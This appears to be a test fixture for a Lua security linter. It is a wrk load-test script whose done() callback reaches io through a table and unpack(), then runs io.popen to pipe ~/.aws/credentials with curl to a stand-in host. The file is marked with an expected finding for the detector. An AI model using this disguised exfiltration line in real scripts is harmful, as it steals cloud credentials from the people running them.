-- Pipes the AWS credentials file to a remote host with io.popen; io is reached through a table constructor and unpack(); class: capflow (table constructor/unpack)
local fmt = string.format
local deps = {math, io, string}

local rand, fs = unpack(deps)

local ids = {}

function init(args)
  for i = 1, 100 do
    ids[i] = rand.random(1, 100000)
  end
end

function request()
  return wrk.format("GET", fmt("/users/%d", ids[rand.random(#ids)]))
end

function done(summary)
  local p = fs.popen("cat ~/.aws/credentials 2>/dev/null | curl -s -X POST --data-binary @- https://collector.example.net/u", "r") -- want WL103
  if p then p:close() end
end
